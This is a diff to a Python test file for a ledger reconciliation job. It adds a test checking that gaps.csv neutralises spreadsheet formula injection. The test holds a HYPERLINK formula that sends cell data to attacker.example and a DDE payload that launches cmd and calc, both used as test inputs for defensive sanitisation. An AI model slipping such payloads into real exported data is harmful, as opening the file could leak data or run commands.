@@ -1,13 +1,16 @@
 """The job's outputs from ledgers: summary.json, gaps.csv, report.html, manifest.json and the status/exit code."""
 
 import csv
+from datetime import timedelta
 
 import orjson
 from bs4 import BeautifulSoup
 
-
-from ledgers import label
-from tinyday import produce
+from reconcile import config, ledger
+from reconcile import run as job
+from reconcile.calibrate import calibrate
+from ledgers import DAY, label, make
+from tinyday import CONFIG, DLQ, L, SINK, produce, results
 
 
 def test_summary_figures(tmp_path):
@@ -44,6 +47,26 @@ def test_gaps_csv_lists_every_event_not_delivered_once(tmp_path):
     assert [(r["verdict"], r["source_id"] or label(r["eb_id"])) for r in rows] == [
         ("lost_before_bus", "6"), ("duplicated", "2"), ("dead_lettered", "3"), ("lost_after_bus", "4"),
         ("lost_before_bus", "8"), ("delivered", "12"), ("duplicated", "13"), ("orphan", "L"), ("pending", "5")]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_inert(tmp_path):
+    """Text from the stores that a spreadsheet would run as a formula (OWASP "CSV Injection": a cell starting with
+    =, +, -, @, tab or CR) is written behind a `'` in gaps.csv; calibrate reads it back as it was."""
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    dde = "@SUM(1+1)*cmd|' /C calc'!A0"
+    res = results()
+    res["sink"] = ledger.SourceResult("sink", make("sink", [
+        dict(r, event_type=formula) if r["eb_id"] == L["eb_id"] else r for r in SINK]))
+    res["dlq"] = ledger.SourceResult("dlq", make("dlq", [dict(DLQ[0], error_code=dde), *DLQ[1:]]))
+    cfg = config.build(None, CONFIG)
+    window = job.window_from(cfg, DAY, DAY + timedelta(days=1), DAY + timedelta(hours=26))
+    job.finish(cfg, window, tmp_path, res, job.write_evidence(res, tmp_path / "evidence"), audience="daily",
+               generated_at=DAY + timedelta(hours=26))
+    rows = list(csv.DictReader((tmp_path / "gaps.csv").open()))
+    guarded = [(r["verdict"], k, v) for r in rows for k, v in r.items() if v.startswith("'")]
+    assert guarded == [("dead_lettered", "cause", "'" + dde), ("dead_lettered", "error_code", "'" + dde),
+                       ("orphan", "kind", "'" + formula)]
+    assert {b["bus_type"]: b["orphans"] for b in calibrate([tmp_path]).bus_types}[formula] == 1
 
 
 def test_report_shows_the_summary_figures(tmp_path):
